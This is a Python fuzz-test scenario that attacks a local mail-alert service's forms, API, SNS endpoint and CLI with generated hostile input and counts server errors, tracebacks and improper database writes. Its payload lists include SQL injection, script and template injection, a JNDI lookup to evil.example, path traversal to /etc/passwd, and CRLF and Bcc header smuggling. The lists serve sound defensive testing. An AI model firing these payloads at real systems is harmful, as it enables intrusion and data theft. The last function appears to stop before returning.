"""Scenario 8, hostile input: Hypothesis-made requests to every public form, the JSON API
(each token scope, and none), the SNS endpoint and every CLI command; then schemathesis on
the OpenAPI document the API serves.

The web side is gunicorn on a PostgreSQL database of its own, reached over loopback HTTP,
one request at a time, so that the rows of every table can be counted after each request
and a rejected request (4xx or 5xx) that stored or deleted anything is caught. The CLI
commands are invoked in-process with Click's runner (uncaught exceptions and printed
tracebacks counted), and a sample of them as real processes (a ``Traceback`` on stderr
counted).

Found, per target: responses with status 500 (any 5xx), tracebacks, connection failures,
and rejected requests that changed a table's row count. Their sum is the row's ``errors``.

Nothing here reaches beyond this machine: ``SNS_TOPIC_ARNS`` is empty, so every SNS message
is refused before a signing certificate would be fetched, and ``feeds poll`` (which fetches
feeds) is not among the commands fuzzed.
"""

from __future__ import annotations

import contextlib
import json
import logging
import os
import re
import subprocess
import sys
import tempfile
import warnings
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

import click
import httpx
from flask_migrate import upgrade
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis.errors import HypothesisWarning
from sqlalchemy import create_engine, func, select
from sqlalchemy.engine import Engine

from bench._support import PROJECT_ROOT, gunicorn, step
from bench.reliability._common import scenario_database
from bench.reliability.table import Row

NAME = "hostile input"
NEEDS_POSTGRESQL = True

SECRET_KEY = "hostile-input-scenario-key-5b1e0c7a93d24f68"
SCOPES = ("articles:write", "runs:write", "read", "subscribers:admin")
# Cases per target in the full run; the short run takes SHORT_SHARE of each (at least 8).
FULL_CASES = {
    "signup (POST /)": 220,
    "signup prefill (GET /)": 80,
    "confirm": 120,
    "manage": 140,
    "manage: pause": 100,
    "manage: leave all, delete my data, data.json": 80,
    "unsubscribe": 120,
    "manage-link request": 100,
    "embed register": 60,
    "topic pages": 80,
    "admin sign-in": 60,
    "API": 420,
    "SNS /ses/events": 200,
    "CLI (in-process)": 360,
}
SHORT_SHARE = 0.14
CLI_PROCESS_SAMPLE = {"full": 12, "short": 1}
SCHEMATHESIS_EXAMPLES = {"full": 25, "short": 2}
MIN_CASES = {"full": 2000, "short": 250}

# -- what hostile looks like ---------------------------------------------------------------

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: x=1",
    "\u202egnp.exe",
    "\ufeff",
    "😀",
    "İstanbul",
    "ß",
    "' OR 1=1 --",
    "'; DROP TABLE subscribers; --",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}",
    "%00",
    "%2e%2e%2f",
    "../../../../etc/passwd",
    "//evil.example",
    "javascript:alert(1)",
    "-1",
    "0",
    "2147483648",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "null",
    "[]",
    "{}",
    "true",
    "用户@例子.广告",
    "reader@exämple.com",
    "Ω@ß.de",
    "reader@example.com\x00",
    "reader@example.com\r\nBcc: victim@example.org",
    '"quoted local"@example.com',
    "reader@[127.0.0.1]",
    "a@b",
    "@",
    "x" * 64 + "@" + "y" * 250 + ".com",
    "reader+tag@example.com",
    "9999-12-31",
    "275760-09-13T00:00:00Z",
    "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00-12:00",
    "2999-01-01T00:00:00+00:00",
    "Etc/GMT+12",
    "../zoneinfo/UTC",
    "daily",
    "weekly",
    "immediately",
    "none",
    "data",
    "digital-government",
]


def _long(char: str, size: int) -> str:
    return char * size


short_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=30),
    st.text(st.characters(max_codepoint=0x1F), min_size=1, max_size=6),
)
# Mostly short values, so most requests get past the size limits to the code behind them;
# one in 40 is long (past a column's size), one in 150 huge (past MAX_CONTENT_LENGTH).
long_text = st.builds(_long, st.sampled_from(["A", "\x00", "é", "😀", "%"]), st.integers(300, 3000))
huge_text = st.builds(_long, st.sampled_from(["A", "é"]), st.integers(60_000, 200_000))
hostile_text = st.integers(0, 149).flatmap(
    lambda roll: huge_text if roll == 0 else long_text if roll < 5 else short_text
)
# Header values and URL paths cannot carry every character (httpx refuses them first).
header_text = st.one_of(
    st.sampled_from(NASTY[:1] + NASTY[10:30]), st.text("abc/=;- *,", max_size=40)
)
values = st.lists(hostile_text, max_size=3)  # 0 (missing), 1, or repeated fields
csrf_choice = st.sampled_from(["valid", "valid", "valid", "missing", "garbage", "repeated"])
encodings = st.sampled_from(
    ["form", "form", "form", "multipart", "json", "text", "none", "bogus-type", "bad-charset"]
)


def nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_value = st.recursive(
    json_scalar,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=12,
)


@dataclass
class Form:
    """A body to send: fields (each a list of values), how to encode them, the CSRF choice."""

    fields: dict[str, list[str]]
    encoding: str = "form"
    csrf: str = "valid"
    raw: bytes | None = None  # a body sent as it is instead (huge, nested, not UTF-8)


ADDRESSES = [
    "reader@example.com",
    "Reader.Name+alerts@Example.COM",
    "用户@例子.广告",
    "reader@exämple.com",
    "josé@correo.example",
    '"odd local"@example.com',
    "a@b.co",
]


@st.composite
def forms(
    draw: st.DrawFn, names: list[str], valid: dict[str, st.SearchStrategy[str]] | None = None
) -> Form:
    """A form body. Three times in four (when ``valid`` is given) a valid form with up to
    two fields made hostile, so that requests get past validation to the code behind it;
    otherwise every field hostile, missing or repeated."""
    if valid and draw(st.integers(0, 3)):
        fields = {name: [draw(strategy)] for name, strategy in valid.items()}
        for name in draw(st.lists(st.sampled_from(names), max_size=2)):
            fields[name] = draw(values)
        return Form(fields, draw(st.sampled_from(["form", "form", "multipart"])))
    fields = {name: draw(values) for name in names}
    extra = draw(st.dictionaries(st.sampled_from(["x", "csrf", "id", "email[]", ""]), values))
    fields.update({k: v for k, v in extra.items() if k not in fields})
    raw = draw(
        st.one_of(
            st.none(),
            st.none(),
            st.none(),
            st.none(),
            st.sampled_from(
                [
                    b"\xff\xfe\x00\x00not utf-8",
                    b"email=%ff%fe&topics=%00",
                    nested_json(5000).encode(),
                    b"a=" + b"b" * 200_000,
                    b"&" * 50_000,
                    b"=" * 10,
                    b"%",
                ]
            ),
        )
    )
    return Form(fields, draw(encodings), draw(csrf_choice), raw)


# -- the running service and its tables ----------------------------------------------------


@dataclass
class Target:
    name: str
    cases: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    server_errors: list[str] = field(default_factory=list)
    stored: list[str] = field(default_factory=list)
    tracebacks: list[str] = field(default_factory=list)
    broken: list[str] = field(default_factory=list)  # no answer at all

    @property
    def errors(self) -> int:
        return len(self.server_errors) + len(self.stored) + len(self.tracebacks) + len(self.broken)


def _short(value: object, size: int = 120) -> str:
    text = repr(value)
    return text if len(text) <= size else text[:size] + f"…({len(text)} chars)"


class Tables:
    """Row counts of every table, in one statement."""

    def __init__(self, engine: Engine, names: list[str]) -> None:
        from sqlalchemy import table

        self.engine = engine
        self.statement = select(
            *[
                select(func.count()).select_from(table(name)).scalar_subquery().label(name)
                for name in names
            ]
        )
        self.last = self.count()

    def count(self) -> dict[str, int]:
        with self.engine.connect() as connection:
            return dict(connection.execute(self.statement).one()._mapping)

    def changed(self) -> dict[str, tuple[int, int]]:
        """Tables whose row count moved since the last call."""
        now = self.count()
        moved = {n: (self.last[n], now[n]) for n in now if now[n] != self.last[n]}
        self.last = now
        return moved


class Web:
    """One browser-like client on the gunicorn under test, with its CSRF token."""

    def __init__(self, base_url: str, tables: Tables) -> None:
        self.client = httpx.Client(base_url=base_url, timeout=30.0, follow_redirects=False)
        self.tables = tables
        page = self.client.get("/").text
        found = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
        self.csrf = found.group(1) if found else ""

    def send(
        self,
        target: Target,
        method: str,
        path: str,
        *,
        form: Form | None = None,
        params: list[tuple[str, str]] | None = None,
        headers: dict[str, str] | None = None,
        content: bytes | None = None,
    ) -> httpx.Response | None:
        """Send one request; record its status, a 5xx, and any table a rejection changed."""
        target.cases += 1
        headers = dict(headers or {})
        if form is not None:
            content, content_type = self._encode(form)
            if content_type:
                headers["Content-Type"] = content_type
        if params:
            # Past 64 KiB httpx refuses to send the URL; past 4 KiB gunicorn refuses it.
            params = [(name, value[:1500]) for name, value in params]
            path = path + ("&" if "?" in path else "?") + urlencode(params, doseq=True)
        label = f"{method} {path[:100]}"
        try:
            request = self.client.build_request(method, path, content=content, headers=headers)
        except (httpx.InvalidURL, UnicodeError, ValueError):
            target.cases -= 1  # a request no client could send
            return None
        try:
            response = self.client.send(request)
        except httpx.LocalProtocolError:
            target.cases -= 1  # a header no client could send ("Bearer " ends in a space)
            return None
        except httpx.HTTPError as error:
            target.broken.append(f"{label}: {type(error).__name__}: {error}")
            self.tables.changed()
            return None
        target.statuses[response.status_code] += 1
        if response.status_code >= 500:
            body = _short(form.fields if form is not None else content, 300)
            target.server_errors.append(f"{label} -> {response.status_code} {body}")
        moved = self.tables.changed()
        if response.status_code >= 400 and moved:
            target.stored.append(f"{label} -> {response.status_code} changed {moved}")
        return response

    def _encode(self, form: Form) -> tuple[bytes | None, str | None]:
        fields = dict(form.fields)
        if form.csrf == "valid":
            fields["csrf_token"] = [self.csrf]
        elif form.csrf == "garbage":
            fields["csrf_token"] = ["IjAxMjM0NTY3ODki.garbage.token"]
        elif form.csrf == "repeated":
            fields["csrf_token"] = [self.csrf, "other"]
        if form.raw is not None:
            return form.raw, "application/x-www-form-urlencoded"
        pairs = [(name, value) for name, items in fields.items() for value in items]
        if form.encoding == "multipart":
            boundary = "hostileboundary7d1"
            parts = [
                f'--{boundary}\r\nContent-Disposition: form-data; name="{quote(n)}"\r\n\r\n{v}\r\n'
                for n, v in pairs
            ]
            body = "".join(parts) + f"--{boundary}--\r\n"
            return body.encode(
                "utf-8", "surrogatepass"
            ), f"multipart/form-data; boundary={boundary}"
        if form.encoding == "json":
            return json.dumps(fields).encode(), "application/json"
        body = urlencode(pairs, doseq=True).encode()
        return body, {
            "form": "application/x-www-form-urlencoded",
            "text": "text/plain",
            "none": None,
            "bogus-type": "application/x-evil; boundary=",
            "bad-charset": "application/x-www-form-urlencoded; charset=klingon",
        }[form.encoding]


def _run(strategy: st.SearchStrategy[Any], cases: int, body: Callable[[Any], None]) -> None:
    """``body`` on ``cases`` generated examples: no shrinking, no example database, no
    deadline (a scenario reports what it found rather than minimising it)."""

    @given(strategy)
    @settings(
        max_examples=cases,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    def run(example: Any) -> None:
        body(example)

    with warnings.catch_warnings():
        # "Generating overly large repr": the huge values are the point here.
        warnings.simplefilter("ignore", HypothesisWarning)
        run()


# -- the service's data --------------------------------------------------------------------


@dataclass
class Seeds:
    topics: list[str]
    confirm_tokens: list[str]
    manage_tokens: list[str]
    erasable_tokens: list[str]  # subscribers the fuzzed "delete my data" may erase
    unsubscribe_tokens: list[str]
    api_tokens: dict[str, str]  # scope (or "all", "revoked") -> token
    article_ids: list[int]


def _settings(database_url: str, mail_dir: str) -> dict[str, str]:
    return {
        "ALERTSVC_ENV": "testing",
        "ALERTSVC_DATABASE_URL": database_url,
        "ALERTSVC_SECRET_KEY": SECRET_KEY,
        "ALERTSVC_BASE_URL": "https://alerts.test",
        "ALERTSVC_MAIL_FROM": "Public Technology alerts <alerts@alerts.test>",
        "ALERTSVC_MAIL_TRANSPORT": "file",
        "ALERTSVC_MAIL_DIR": mail_dir,
        "ALERTSVC_RATELIMIT_STORAGE_URI": "memory://",
        "ALERTSVC_SIGNUP_RATE_LIMIT_PER_IP": "1000000 per minute",
        "ALERTSVC_SIGNUP_RATE_LIMIT_PER_ADDRESS": "1000000 per minute",
        "ALERTSVC_ADMIN_SIGNIN_RATE_LIMIT_PER_IP": "1000000 per minute",
        "ALERTSVC_ADMIN_SIGNIN_RATE_LIMIT_PER_ADDRESS": "1000000 per minute",
        "ALERTSVC_API_RATE_LIMIT": "1000000 per minute",
        "FLASK_SKIP_DOTENV": "1",
    }


def _app(env: dict[str, str]) -> Any:
    """The app, in this process, on the scenario's database (seeding, the CLI runner)."""
    for name in [n for n in os.environ if n.startswith("ALERTSVC_")]:
        del os.environ[name]
    os.environ.update(env)
    from alertsvc import create_app

    return create_app()


def seed(app: Any) -> Seeds:
    from alertsvc.api.tokens import create_api_token, revoke_api_token
    from alertsvc.database import transaction
    from alertsvc.extensions import db
    from alertsvc.models import Article, Frequency, SignupRequest, Subscriber, Subscription, Topic
    from alertsvc.models import utcnow as now
    from alertsvc.subscriptions import services
    from alertsvc.tokens import TokenPurpose, make_token, unsubscribe_payload
    from alertsvc.topics.services import seed_demo_topics

    with app.app_context():
        with transaction():
            seed_demo_topics()
        topics = list(db.session.scalars(select(Topic).order_by(Topic.id)))
        schedule = services.Schedule(timezone="UTC", daily_hour=7, weekly_day=0, weekly_hour=7)
        with transaction():
            for index in range(6):
                services.sign_up(
                    f"pending{index}@example.com", topics[:2], Frequency.DAILY, schedule
                )
            subscribers = []
            for index in range(16):
                subscriber = Subscriber(email=f"reader{index}@example.com", confirmed_at=now())
                db.session.add(subscriber)
                db.session.flush()
                for topic in topics[: 1 + index % len(topics)]:
                    db.session.add(
                        Subscription(
                            subscriber_id=subscriber.id, topic_id=topic.id, frequency="daily"
                        )
                    )
                subscribers.append(subscriber.id)
            db.session.add(
                Article(
                    guid="hostile-1",
                    url="https://news.example.org/a/1",
                    title="Open data week",
                    published_at=now(),
                    source="cli",
                    topics=topics[:1],
                )
            )
            api_tokens = {scope: create_api_token(f"scope {scope}", [scope])[1] for scope in SCOPES}
            api_tokens["all"] = create_api_token("all scopes", SCOPES)[1]
            api_tokens["revoked"] = create_api_token("revoked", SCOPES)[1]
            revoke_api_token("revoked")
        requests = list(db.session.scalars(select(SignupRequest.id)))
        articles = list(db.session.scalars(select(Article.id)))
        manage = [make_token(TokenPurpose.MANAGE, s) for s in subscribers]
        return Seeds(
            topics=[t.slug for t in topics],
            confirm_tokens=[make_token(TokenPurpose.CONFIRM, r) for r in requests],
            manage_tokens=manage[:12],
            erasable_tokens=manage[12:],
            unsubscribe_tokens=[
                make_token(TokenPurpose.UNSUBSCRIBE, unsubscribe_payload(s, t))
                for s in subscribers
                for t in (None, [topics[0].id])
            ],
            api_tokens=api_tokens,
            article_ids=articles,
        )


def tokens(good: list[str], others: list[str]) -> st.SearchStrategy[str]:
    """A link token: genuine six times in ten (so requests reach the page's own checks),
    else one of another purpose, tampered, cut short, or made up."""
    genuine = st.sampled_from(good)
    kinds = [
        st.sampled_from(others),
        genuine.map(lambda t: t[:-3] + ("AAA" if not t.endswith("AAA") else "BBB")),
        genuine.map(lambda t: t[: len(t) // 2]),
        st.sampled_from(["", ".", "..", "%00", "a" * 5000, "eyJzIjoxfQ.x.y", "1", "-1"]),
        st.text(min_size=1, max_size=60),
    ]
    return st.integers(0, 9).flatmap(lambda roll: genuine if roll < 6 else kinds[roll % 5])


def _path_part(value: str) -> str:
    return quote(value, safe="") or "x"


# -- the targets ---------------------------------------------------------------------------

SCHEDULE_FIELDS = ["daily_hour", "weekly_day", "weekly_hour", "timezone"]
VALID_SCHEDULE = {
    "daily_hour": st.sampled_from(["0", "7", "23"]),
    "weekly_day": st.sampled_from(["0", "6"]),
    "weekly_hour": st.sampled_from(["7"]),
    "timezone": st.sampled_from(["UTC", "Europe/London", "Pacific/Kiritimati", "Asia/Calcutta"]),
}


def fuzz_web(web: Web, seeds: Seeds, share: float) -> list[Target]:
    found: list[Target] = []

    def target(name: str) -> tuple[Target, int]:
        found.append(Target(name))
        return found[-1], max(8, round(FULL_CASES[name] * share))

    any_token = seeds.confirm_tokens + seeds.manage_tokens + seeds.unsubscribe_tokens

    t, n = target("signup (POST /)")
    signup_fields = ["email", "topics", "frequency", "website", *SCHEDULE_FIELDS]
    valid_signup = {
        "email": st.sampled_from(ADDRESSES),
        "topics": st.sampled_from(seeds.topics),
        "frequency": st.sampled_from(["immediately", "daily", "weekly"]),
        **VALID_SCHEDULE,
    }
    _run(forms(signup_fields, valid_signup), n, lambda f: web.send(t, "POST", "/", form=f))

    t, n = target("signup prefill (GET /)")
    query = st.lists(st.tuples(st.sampled_from(["email", "topic", "article", "x"]), hostile_text))
    _run(query, n, lambda q: web.send(t, "GET", "/", params=q))

    t, n = target("confirm")
    confirm = st.tuples(
        tokens(seeds.confirm_tokens, any_token), st.sampled_from(["GET", "POST"]), forms([])
    )
    _run(confirm, n, lambda c: web.send(t, c[1], f"/confirm/{_path_part(c[0])}", form=c[2]))

    t, n = target("manage")
    manage_fields = [f"topic-{slug}" for slug in seeds.topics] + SCHEDULE_FIELDS
    manage = st.tuples(
        tokens(seeds.manage_tokens, any_token),
        st.sampled_from(["GET", "POST"]),
        forms(
            manage_fields,
            {
                **{
                    f"topic-{slug}": st.sampled_from(["none", "daily", "weekly", "immediately"])
                    for slug in seeds.topics
                },
                **VALID_SCHEDULE,
            },
        ),
    )
    _run(manage, n, lambda c: web.send(t, c[1], f"/manage/{_path_part(c[0])}", form=c[2]))

    t, n = target("manage: pause")
    far = st.sampled_from(
        [
            "9999",
            "99999999999",
            "2100",
            "0",
            "-5",
            "\u0661\u0662",
            "\uff12\uff10\uff13\uff10",
            "1e3",
        ]
    )
    # A date (far in the future, or not a date at all), or the resume button.
    valid_pause = {
        "until-day": st.sampled_from(["1", "15", "28", "31", "32"]),
        "until-month": st.sampled_from(["1", "2", "12", "13"]),
        "until-year": st.one_of(st.sampled_from(["2027", "2026"]), far),
        "action": st.sampled_from(["pause", "resume", "", "RESUME"]),
    }
    pause = st.tuples(tokens(seeds.manage_tokens, any_token), forms(list(valid_pause), valid_pause))
    _run(
        pause,
        n,
        lambda c: web.send(t, "POST", f"/manage/{_path_part(c[0])}/pause", form=c[1]),
    )

    t, n = target("manage: leave all, delete my data, data.json")
    page = st.tuples(
        tokens(seeds.erasable_tokens, any_token),
        st.sampled_from(["unsubscribe-all", "erase", "data.json"]),
        st.sampled_from(["GET", "POST"]),
        forms(["reason"]),
    )
    _run(
        page,
        n,
        lambda c: web.send(t, c[2], f"/manage/{_path_part(c[0])}/{c[1]}", form=c[3]),
    )

    t, n = target("unsubscribe")
    unsubscribe = st.tuples(
        tokens(seeds.unsubscribe_tokens, any_token),
        st.sampled_from(["GET", "POST", "POST"]),
        forms(["List-Unsubscribe"]),
    )
    _run(
        unsubscribe,
        n,
        lambda c: web.send(t, c[1], f"/unsubscribe/{_path_part(c[0])}", form=c[2]),
    )

    t, n = target("manage-link request")
    link = st.tuples(
        st.sampled_from(["GET", "POST", "POST", "POST"]),
        forms(["email"], {"email": st.sampled_from(ADDRESSES)}),
    )
    _run(link, n, lambda c: web.send(t, c[0], "/manage", form=c[1]))

    t, n = target("embed register")
    embed = st.lists(st.tuples(st.sampled_from(["topic", "article", "email", "x"]), hostile_text))
    _run(embed, n, lambda q: web.send(t, "GET", "/embed/register", params=q))

    t, n = target("topic pages")
    slug = st.one_of(st.sampled_from(seeds.topics), hostile_text.map(lambda s: s[:300]))
    topic_page = st.tuples(
        slug,
        st.sampled_from(["/topics/{}", "/topics/{}.atom", "/topics"]),
        st.lists(st.tuples(st.sampled_from(["page", "q", "x"]), hostile_text), max_size=2),
        st.dictionaries(
            st.sampled_from(["If-None-Match", "If-Modified-Since", "Accept"]), header_text
        ),
    )
    _run(
        topic_page,
        n,
        lambda c: web.send(t, "GET", c[1].format(_path_part(c[0])), params=c[2], headers=c[3]),
    )

    t, n = target("admin sign-in")
    sign_in = st.tuples(
        st.lists(st.tuples(st.just("next"), hostile_text), max_size=2), forms(["email", "password"])
    )
    _run(sign_in, n, lambda c: web.send(t, "POST", "/admin/login", params=c[0], form=c[1]))

    fuzz_api(web, seeds, *target("API"))
    fuzz_sns(web, *target("SNS /ses/events"))
    return found


API_OPERATIONS = [
    ("GET", "/api/v1/articles"),
    ("POST", "/api/v1/articles"),
    ("GET", "/api/v1/articles/{id}"),
    ("GET", "/api/v1/topics"),
    ("GET", "/api/v1/topics/{slug}"),
    ("GET", "/api/v1/feeds"),
    ("GET", "/api/v1/runs"),
    ("POST", "/api/v1/runs"),
    ("GET", "/api/v1/runs/{id}"),
    ("GET", "/api/v1/stats"),
    ("POST", "/api/v1/subscribers/export"),
    ("POST", "/api/v1/subscribers/erase"),
    ("DELETE", "/api/v1/articles"),
]
ARTICLE_KEYS = ["title", "url", "guid", "summary", "author", "published", "updated", "topics"]
QUERY_KEYS = ["topic", "since", "limit", "before_id", "frequency", "x"]


@st.composite
def api_bodies(draw: st.DrawFn) -> bytes | None:
    shape = draw(
        st.sampled_from(["article", "article", "articles", "run", "email", "any", "raw", "none"])
    )
    if shape == "none":
        return None
    if shape == "raw":
        return draw(
            st.sampled_from(
                [
                    nested_json(100_000).encode(),
                    b'{"a":' * 5000 + b"1" + b"}" * 5000,
                    b"\xff\xfe",
                    b"[" + b"{}," * 300_000 + b"{}]",
                    b'{"title": "x", "title": "y"}',
                    b"NaN",
                    b'"\\ud800"',
                    b"",
                ]
            )
        )
    if shape in ("article", "articles"):
        hostile_value = st.one_of(json_value, hostile_text, st.lists(hostile_text, max_size=60))
        if draw(st.booleans()):
            # A valid article with one field made hostile.
            number = draw(st.integers(1, 10**9))
            article = {
                "title": "Open data week",
                "url": f"https://news.example.org/a/{number}",
                "guid": f"guid-{number}",
                "published": "2026-11-30T09:00:00Z",
                "topics": ["data"],
            }
            article[draw(st.sampled_from(ARTICLE_KEYS))] = draw(hostile_value)
        else:
            article = draw(st.dictionaries(st.sampled_from(ARTICLE_KEYS), hostile_value))
        body: Any = [article] * draw(st.integers(1, 3)) if shape == "articles" else article
    elif shape == "run":
        body = draw(
            st.dictionaries(
                st.sampled_from(["frequency", "at", "dry_run", "x"]),
                st.one_of(json_value, st.sampled_from(NASTY)),
            )
        )
    elif shape == "email":
        body = {"email": draw(st.one_of(hostile_text, json_value))}
    else:
        body = draw(json_value)
    return json.dumps(body).encode()


def fuzz_api(web: Web, seeds: Seeds, t: Target, n: int) -> None:
    token_names = [*SCOPES, "all", "revoked"]
    genuine = st.sampled_from([*token_names, "all", "all", "all"]).map(
        lambda name: f"Bearer {seeds.api_tokens[name]}"
    )
    refused = st.one_of(
        st.sampled_from(
            [
                "",
                "Bearer",
                "Bearer ",
                "Basic dXNlcjpwYXNz",
                "Bearer alertsvc_" + "0" * 40,
                "x" * 9000,
            ]
        ),
        st.none(),
    )
    authorization = st.integers(0, 9).flatmap(lambda roll: genuine if roll < 7 else refused)
    case = st.tuples(
        st.sampled_from(API_OPERATIONS),
        authorization,
        st.one_of(st.sampled_from([str(i) for i in seeds.article_ids]), hostile_text),
        st.lists(st.tuples(st.sampled_from(QUERY_KEYS), hostile_text), max_size=3),
        api_bodies(),
        st.sampled_from(
            ["application/json", "application/json", "text/plain", "application/xml", None]
        ),
    )

    def send(c: tuple[Any, ...]) -> None:
        (method, template), auth, ident, query, body, content_type = c
        path = template.format(id=_path_part(ident), slug=_path_part(ident))
        headers = {}
        if auth is not None:
            headers["Authorization"] = auth
        if content_type is not None and body is not None:
            headers["Content-Type"] = content_type
        web.send(t, method, path, params=query, headers=headers, content=body)

    _run(case, n, send)


SNS_TYPES = ["Notification", "SubscriptionConfirmation", "UnsubscribeConfirmation", "Other"]
SNS_FIELDS = [
    "Type",
    "MessageId",
    "TopicArn",
    "Message",
    "Timestamp",
    "Signature",
    "SignatureVersion",
    "SigningCertURL",
    "SubscribeURL",
    "Token",
    "Subject",
]


@st.composite
def sns_bodies(draw: st.DrawFn) -> bytes:
    if draw(st.integers(0, 9)) == 0:
        return draw(
            st.sampled_from(
                [
                    nested_json(200_000).encode(),
                    b"{" * 50_000,
                    b"\x00" * 1000,
                    b"A" * 600_000,
                    b"[]",
                    b'"text"',
                    b"",
                ]
            )
        )
    message = {
        "Type": draw(st.sampled_from(SNS_TYPES)),
        "MessageId": draw(st.uuids().map(str)),
        "TopicArn": "arn:aws:sns:eu-west-2:123456789012:ses-events",
        "Message": json.dumps({"notificationType": "Bounce", "bounce": draw(json_value)}),
        "Timestamp": draw(st.sampled_from(["2026-12-01T20:00:00.000Z", "9999-12-31T23:59:59Z"])),
        "Signature": "c2lnbmF0dXJl",
        "SignatureVersion": draw(st.sampled_from(["1", "2", "3", ""])),
        "SigningCertURL": "https://sns.eu-west-2.amazonaws.com/SimpleNotificationService-0a1b.pem",
        "SubscribeURL": "https://sns.eu-west-2.amazonaws.com/?Action=ConfirmSubscription",
        "Token": "t",
    }
    for name in draw(st.lists(st.sampled_from(SNS_FIELDS), max_size=4)):
        message[name] = draw(st.one_of(json_value, hostile_text))
    for name in draw(st.lists(st.sampled_from(SNS_FIELDS), max_size=2)):
        message.pop(name, None)
    return json.dumps(message).encode()


def fuzz_sns(web: Web, t: Target, n: int) -> None:
    case = st.tuples(
        sns_bodies(),
        st.sampled_from(["text/plain; charset=UTF-8", "application/json", "multipart/form-data"]),
        st.sampled_from(["Notification", "SubscriptionConfirmation", "", "\u00e9"]),
    )

    def send(c: tuple[bytes, str, str]) -> None:
        headers = {"Content-Type": c[1], "x-amz-sns-message-type": c[2].encode().decode("latin-1")}
        web.send(t, "POST", "/ses/events", headers=headers, content=c[0])

    _run(case, n, send)


# -- the CLI -------------------------------------------------------------------------------

# Commands that never end by themselves, write files where they are told, fetch feeds from
# the network, or change the schema: not fuzzed (``worker`` only with ``--burst``).
CLI_EXCLUDED = re.compile(r"^(db |openapi write|scheduler$|run$|shell$|feeds poll|routes$)")


def cli_commands(app: Any) -> dict[str, click.Command]:
    context = click.Context(app.cli)
    found: dict[str, click.Command] = {}

    def walk(command: click.Command, prefix: list[str]) -> None:
        if isinstance(command, click.Group):
            for name in command.list_commands(context):
                sub = command.get_command(context, name)
                if sub is not None:
                    walk(sub, [*prefix, name])
        elif not CLI_EXCLUDED.match(" ".join(prefix)):
            found[" ".join(prefix)] = command

    walk(app.cli, [])
    return found


@st.composite
def cli_arguments(draw: st.DrawFn, command: click.Command) -> tuple[list[str], str]:
    """Arguments for ``command`` from its own parameters: each option perhaps given
    (perhaps twice), each argument hostile text or a value of its choice, a stray flag."""
    args: list[str] = []
    for param in command.params:
        choices = list(getattr(param.type, "choices", []) or [])
        value = st.one_of(hostile_text.map(lambda s: s[:2000]), st.sampled_from(choices or ["1"]))
        if isinstance(param, click.Option):
            if param.is_flag:
                if draw(st.booleans()):
                    args.append(param.opts[0])
                continue
            for _ in range(draw(st.integers(0, 2))):
                args += [param.opts[0], draw(value)]
        elif draw(st.integers(0, 5)):
            args.append(draw(value))
    if draw(st.integers(0, 7)) == 0:
        args.append(draw(st.sampled_from(["--no-such-option", "--", "-x", "extra"])))
    return [arg.replace("\x00", "") for arg in args], draw(hostile_text.map(lambda s: s[:500]))


def fuzz_cli(app: Any, tables: Tables, share: float) -> Target:
    from alertsvc.extensions import db

    t = Target("CLI (in-process)")
    commands = cli_commands(app)
    runner = app.test_cli_runner()
    names = sorted(commands)
    # The log goes to the real stderr, which the runner does not capture: a record with an
    # exception is a traceback an operator would see.
    logged: list[str] = []
    root = logging.getLogger()

    class Catcher(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            if record.exc_info:
                logged.append(f"{record.name}: {record.getMessage()}")

    catcher = Catcher()

    def invoke(case: tuple[str, tuple[list[str], str]]) -> None:
        name, (args, stdin) = case
        argv = [*name.split(), *args]
        if name == "worker":
            argv.insert(1, "--burst")
        t.cases += 1
        logged.clear()
        root.addHandler(catcher)
        try:
            result = runner.invoke(args=argv, input=stdin)
        finally:
            root.removeHandler(catcher)
        with app.app_context():
            db.session.remove()
        label = f"alertsvc {_short(argv, 160)}"
        t.statuses[result.exit_code] += 1
        exception = result.exception
        if exception is not None and not isinstance(exception, SystemExit):
            t.tracebacks.append(f"{label}: {type(exception).__name__}: {_short(str(exception))}")
        elif "Traceback (most recent call last)" in result.output:
            t.tracebacks.append(f"{label}: printed a traceback")
        elif logged:
            t.tracebacks.append(f"{label}: logged a traceback: {_short(logged[0])}")
        moved = tables.changed()
        if result.exit_code != 0 and moved:
            t.stored.append(f"{label} -> exit {result.exit_code} changed {moved}")

    strategy = st.sampled_from(names).flatmap(
        lambda name: st.tuples(st.just(name), cli_arguments(commands[name]))
    )
    _run(strategy, max(len(names), round(FULL_CASES["CLI (in-process)"] * share)), invoke)
    t.statuses = Counter({f"exit {k}": v for k, v in t.statuses.items()})  # type: ignore[misc]
    return t


def cli_processes(app: Any, env: dict[str, str], tables: Tables, sample: int) -> Target:
    """A few hostile invocations as real processes: what an operator would see on stderr."""
    t = Target("CLI (processes)")
    commands = sorted(cli_commands(app))
    picked = [commands[(index * 7) % len(commands)] for index in range(sample)]
    arguments = [
        ["--limit", "-1"],
        ["\u202e\ufeff", "🙂" * 300],
        ["a" * 5000],
        ["--at", "99999-01-01T00:00"],
        ["'; DROP TABLE subscribers; --"],
        ["--topic", "../../etc/passwd", "--no-such-option"],
    ]
    for index, name in enumerate(picked):
        argv = [*name.split(), *arguments[index % len(arguments)]]
        if name == "worker":
            argv.insert(1, "--burst")
        t.cases += 1
        try:
            result = subprocess.run(
                [sys.executable, "-c", "from alertsvc.cli import main; main()", *argv],
                cwd=PROJECT_ROOT,
                env={**os.environ, **env},
                input="stdin text\x00\n",
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
            )
        except subprocess.TimeoutExpired:
            t.broken.append(f"alertsvc {_short(argv)}: still running after 60 s")
            continue
        t.statuses[f"exit {result.returncode}"] += 1  # type: ignore[index]
